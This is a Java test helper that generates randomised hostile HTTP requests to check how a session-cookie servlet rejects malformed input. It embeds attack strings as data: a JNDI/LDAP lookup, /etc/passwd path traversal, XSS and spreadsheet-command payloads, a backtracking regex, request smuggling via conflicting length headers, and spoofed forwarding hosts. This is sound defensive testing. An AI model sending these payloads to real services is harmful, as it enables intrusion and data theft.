package io.usersessions.servlet;

import io.usersessions.domain.model.SessionKey;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.function.Supplier;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Requests that no friend sends. Each method makes one at random. */
final class HostileRequests {
    private static final String COOKIE = "Cookie: __Host-session=";
    private static final String TARGETS = "/who /session /requested";

    private final Random random;

    HostileRequests(long seed) {
        random = new Random(seed);
    }

    /** A kind of requests that name no session. */
    record Kind(String name, Supplier<String> request) {
        @Override
        public String toString() {
            return name;
        }
    }

    /** The kinds without a single well-formed key, which reach no store. */
    List<Kind> withoutKey() {
        return List.of(
                new Kind("malformed key", () -> get(COOKIE + malformedKey())),
                new Kind("text of any kind", () -> get(COOKIE + printable(random.nextInt(120)))),
                new Kind("long text", () -> get(COOKIE + "A".repeat(random.nextInt(6_000)))),
                new Kind("cookies of other names", () -> get("Cookie: " + otherCookies(500) + "; session=1")),
                new Kind("larger than a header may be", () -> get(COOKIE + key() + "; x=" + "y".repeat(16_000))),
                new Kind("many different keys", () -> get("Cookie: " + ownCookies(2 + random.nextInt(40)))),
                new Kind("another syntax", () -> get("Cookie: " + anotherSyntax())),
                new Kind("control characters", () -> get(COOKIE + control() + key())),
                new Kind("a folded line", () -> get(COOKIE + "\r\n " + key())),
                new Kind("bytes above ASCII", () -> get(COOKIE + key() + "\u00e9\u00ff")),
                new Kind("an agent", () -> get("User-Agent: " + agent())),
                new Kind("X-Forwarded-For", () -> get("X-Forwarded-For: " + hops())),
                new Kind("Forwarded", () -> get("Forwarded: for=" + hops().replace(",", ",for="))),
                new Kind(
                        "another origin", () -> get("X-Forwarded-Host: evil.example\r\nX-Forwarded-Proto: javascript")),
                new Kind("a path", () -> request("GET", path(), "Accept: */*")),
                new Kind(
                        "a method",
                        () -> request(pick("HEAD OPTIONS TRACE PUT DELETE PATCH BREW"), target(), "Accept: */*")),
                new Kind("a header with a malformed key", () -> get("Authorization: Session " + malformedKey())),
                new Kind(
                        "a header without a key, and a cookie",
                        () -> get("Authorization: session\r\n" + COOKIE + key())),
                new Kind("a form field", this::form),
                new Kind("two lengths", this::twoLengths));
    }

    /** The kinds with one well-formed key that was never issued. */
    List<Kind> withUnknownKey() {
        return List.of(
                new Kind("unknown key", () -> get(COOKIE + key())),
                new Kind("unknown key twice", () -> {
                    String key = key();
                    return get(COOKIE + key + "; __Host-session=" + key);
                }),
                new Kind(
                        "unknown key among malformed ones",
                        () -> get(COOKIE + "x; __Host-session=" + key() + "; __Host-session=y")),
                new Kind(
                        "unknown key among others",
                        () -> get("Cookie: " + otherCookies(150) + "; __Host-session=" + key())),
                new Kind("unknown key in a header", () -> get("Authorization: Session " + key())));
    }

    private String get(String headers) {
        return request("GET", target(), headers);
    }

    private static String request(String method, String target, String headers) {
        return method + " " + target + " HTTP/1.1\r\nHost: localhost\r\n" + headers + "\r\n\r\n";
    }

    private String form() {
        String body = "__Host-session=" + key() + "&sid=" + key();
        return "POST " + target() + "?sid=" + key()
                + " HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                + "Content-Length: " + body.length() + "\r\n\r\n" + body;
    }

    private String twoLengths() {
        return "POST " + target()
                + " HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n";
    }

    private String target() {
        return pick(TARGETS);
    }

    private String pick(String words) {
        String[] choices = words.split(" ", -1);
        return choices[random.nextInt(choices.length)];
    }

    private String key() {
        return base64(16) + "." + base64(32);
    }

    private String base64(int bytes) {
        byte[] some = new byte[bytes];
        random.nextBytes(some);
        return Base64.getUrlEncoder().withoutPadding().encodeToString(some);
    }

    /** A key with one fault. */
    private String malformedKey() {
        String key = key();
        int at = random.nextInt(key.length());
        String faulty = switch (random.nextInt(12)) {
            case 0 -> key.substring(0, at);
            case 1 -> key + key.substring(at);
            case 2 -> key.substring(0, at) + pick("+ / = . ~ * % \" ' , < é") + key.substring(at + 1);
            case 3 -> key + "=";
            case 4 -> key.replace('.', '-');
            case 5 -> key.replace(".", "");
            case 6 -> key.substring(0, 65) + pick("B C D F Z 9 _");
            case 7 -> "\"" + key + "\"";
            case 8 -> key.replace(".", "%2E");
            case 9 -> " " + key;
            case 10 -> key + " ";
            default -> pick("null undefined deleted 0 true ../../etc/passwd %00 {} [] ${jndi:ldap://x/a} ' {{7*7}}");
        };
        return SessionKey.parse(faulty.strip()).isPresent() || faulty.endsWith(" ") ? "x" + faulty.strip() : faulty;
    }

    private String printable(int length) {
        return IntStream.range(0, length)
                .mapToObj(index -> String.valueOf((char) (33 + random.nextInt(94))))
                .filter(character -> !character.equals(";"))
                .collect(Collectors.joining());
    }

    private String otherCookies(int count) {
        return IntStream.range(0, count)
                .mapToObj(index -> "c" + index + "=" + random.nextInt(100))
                .collect(Collectors.joining("; "));
    }

    private String ownCookies(int count) {
        return IntStream.range(0, count)
                .mapToObj(index -> "__Host-session=" + key())
                .collect(Collectors.joining("; "));
    }

    private String anotherSyntax() {
        String key = key();
        return switch (random.nextInt(14)) {
            case 0 -> "$Version=1; __Host-session=\"" + key + "\"; $Path=/";
            case 1 -> "__HOST-session=" + key;
            case 2 -> "__Host-Session=" + key;
            case 3 -> "a=b, __Host-session=" + key;
            case 4 -> "=__Host-session=" + key;
            case 5 -> "__Host-session =" + key;
            case 6 -> "a=b;  __Host-session=" + key;
            case 7 -> "a=b;\t__Host-session=" + key;
            case 8 -> "\u0085__Host-session=" + key;
            case 9 -> "%5F_Host-session=" + key;
            case 10 -> "a=\"b; __Host-session=\\\"" + key + "\\\"\"";
            case 11 -> "__Host-session= " + key;
            case 12 -> "__Host-session";
            default -> "__Host-session\\=" + key;
        };
    }

    private String control() {
        return String.valueOf((char) (1 + random.nextInt(31)))
                .replace('\n', '\u0001')
                .replace('\r', '\u0002');
    }

    private String agent() {
        return switch (random.nextInt(6)) {
            case 0 -> "x".repeat(6_000);
            case 1 -> "<script>alert(1)</script>\"><img src=x onerror=alert(1)>";
            case 2 -> "\u001b[31mred\u001b[0m";
            case 3 -> "=cmd|' /C calc'!A0";
            case 4 -> "\u00ed\u00a0\u0080\u00ff\u00fe";
            default -> "((((((((((a+)+)+)+)+)+)+)+)+)+)".repeat(50);
        };
    }

    private String hops() {
        return switch (random.nextInt(7)) {
            case 0 -> "1.2.3.4,".repeat(700);
            case 1 -> ",".repeat(5_000);
            case 2 -> "unknown, _hidden, fe80::1%25eth0, [::1]:99999999";
            case 3 -> "010.1.1.1, 2130706433, 0x7f000001";
            case 4 -> "localhost, evil.example";
            case 5 -> "\"\\\"".repeat(1_000);
            default -> "127.0.0.1, ".repeat(40) + "127.0.0.1";
        };
    }

    private String path() {
        String key = key();
        return switch (random.nextInt(9)) {
            case 0 -> "/who;jsessionid=" + key;
            case 1 -> "/who?sid=" + key + "&jsessionid=" + key;
            case 2 -> "/%77ho";
            case 3 -> "/%2e%2e/%2e%2e/etc/passwd";
            case 4 -> "/who%00";
            case 5 -> "/..;/who";
            case 6 -> "//who";
            case 7 -> "/who/" + "a/".repeat(500);
            default -> "/%c0%af%zz";
        };
    }
}
